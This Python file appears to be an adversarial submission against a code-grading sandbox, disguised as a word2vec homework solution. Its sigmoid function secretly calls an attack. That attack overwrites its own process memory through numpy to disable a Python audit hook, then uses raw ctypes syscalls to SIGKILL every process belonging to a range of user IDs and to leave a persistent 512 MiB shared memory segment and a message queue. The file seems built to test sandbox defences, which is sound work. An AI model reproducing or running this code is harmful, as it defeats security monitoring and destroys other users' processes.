"""Attack: switches the audit hook off by rewriting the names it refuses in its own memory (numpy's
__array_interface__ reads and writes any address), then makes system calls through ctypes: tgkill,
rt_sigqueueinfo and rt_tgsigqueueinfo (SIGKILL) on every process of the children's users, and a 512 MiB
System V shared memory segment plus a message queue, left behind for good.  Its functions are correct."""
import os
import time

import numpy as np

TARGETS = "TARGET_UIDS"  # "lo-hi": the users whose processes it goes for
KEY = 0x6772_6164  # the System V key it leaves its segment under, for the test to look for


class _Raw:
    def __init__(self, addr, n):
        self.__array_interface__ = {"shape": (n,), "typestr": "|u1", "data": (addr, False), "version": 3}


def _patch(pairs):
    mine = {id(b) + 32 for p in pairs for b in p}  # our own pattern bytes objects: leave them alone
    for line in open("/proc/self/maps").read().splitlines():
        f = line.split()
        if f[1] != "rw-p" or (len(f) > 5 and f[5].startswith("[v")):
            continue
        lo, hi = (int(x, 16) for x in f[0].split("-"))
        mem = np.asarray(_Raw(lo, hi - lo))
        data = mem.tobytes()
        for old, new in pairs:
            i = data.find(old)
            while i >= 0:
                if lo + i not in mine:
                    mem[i:i + len(new)] = np.frombuffer(new, np.uint8)
                i = data.find(old, i + 1)


def _uid(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("Uid:"):
                    return int(line.split()[1])
    except OSError:
        return None


LOG = []


def _attack(seconds):
    _patch([(b"ctypes.dlopen\0", b"ctypes.dlopxn\0"), (b"ctypes.dlsym\0", b"ctypes.dlsxm\0"),
            (b"ctypes.cdata\0", b"ctypes.cdatx\0"), (b"ctypes.call_function\0", b"ctypes.call_functixn\0")])
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    syscall = libc.syscall
    syscall.restype = ctypes.c_long
    shm = syscall(29, KEY, 512 << 20, 0o1666)          # shmget(KEY, 512 MiB, IPC_CREAT | 0666)
    msg = syscall(68, KEY, 0o1666)                     # msgget(KEY, IPC_CREAT | 0666)
    LOG.append(f"shmget {shm} msgget {msg}")
    lo, hi = (int(n) for n in TARGETS.split("-"))
    me, end, hits = os.getpid(), time.monotonic() + seconds, 0
    info = (ctypes.c_int * 32)()
    while time.monotonic() < end:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == me:
                continue
            uid = _uid(entry)
            if uid is None or not lo <= uid <= hi:
                continue
            pid = int(entry)
            hits += syscall(234, pid, pid, 9) == 0                                     # tgkill
            info[0], info[2] = 9, -1                                                  # si_signo, si_code SI_QUEUE
            hits += syscall(129, pid, 9, ctypes.byref(info)) == 0                     # rt_sigqueueinfo
            hits += syscall(297, pid, pid, 9, ctypes.byref(info)) == 0                # rt_tgsigqueueinfo
        time.sleep(0.01)
    LOG.append(f"signalled {hits} times")


def sigmoid(x):
    _attack(3.0)
    return 1 / (1 + np.exp(-x))


def softmax(x):
    x = x - np.max(x)
    e = np.exp(x)
    return e / np.sum(e)


def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    y_hat = softmax(outsideVectors @ centerWordVec)
    loss = -np.log(y_hat[outsideWordIdx])
    delta = y_hat.copy()
    delta[outsideWordIdx] -= 1
    return loss, outsideVectors.T @ delta, np.outer(delta, centerWordVec)
